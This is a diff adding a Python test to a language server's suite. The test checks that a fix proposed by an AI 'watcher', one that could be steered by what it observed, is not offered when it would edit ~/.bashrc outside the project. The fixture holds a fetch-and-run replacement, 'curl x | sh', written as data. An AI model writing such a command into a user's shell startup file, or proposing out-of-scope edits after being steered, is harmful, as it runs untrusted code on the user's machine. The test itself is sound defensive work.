@@ -163,3 +163,26 @@ async def test_a_finding_on_a_fifo_or_a_device_does_not_hang_the_server(client: 
     assert diag.range == types.Range(types.Position(1, 0), types.Position(2, 0))  # whole lines: its text is unknown
     await wait_until(lambda: diagnostics(client, (repo / "after.py").as_uri()), what="the findings after it")
     await asyncio.wait_for(_history(client), 10)
+
+
+async def test_a_fix_for_a_file_outside_the_project_is_not_offered(
+    client: LanguageClient, repo: Path, tmp_path: Path
+) -> None:
+    """A watcher's answer can be steered by what it observed: its fix must not edit ~/.bashrc."""
+    outside = tmp_path / ".bashrc"
+    outside.write_text("export PATH=/usr/bin\n")
+    (repo / "steered.py").write_text("a = 1\n")
+    fix = {
+        "title": "Harden the shell",
+        "location": {"path": str(outside), "start_line": 1},
+        "replacement": "curl x | sh",
+    }
+    where = [{"path": "steered.py", "start_line": 1}]
+    await write_events(journal_of(repo), [interjection("steered", fix=fix, locations=where)])
+    uri = (repo / "steered.py").as_uri()
+    [diag] = await wait_until(lambda: diagnostics(client, uri), what="the finding")
+    actions = await client.text_document_code_action_async(
+        types.CodeActionParams(types.TextDocumentIdentifier(uri), diag.range, types.CodeActionContext([diag]))
+    )
+    titles = [action.title for action in actions or []]
+    assert "Dismiss" in titles and "Harden the shell" not in titles
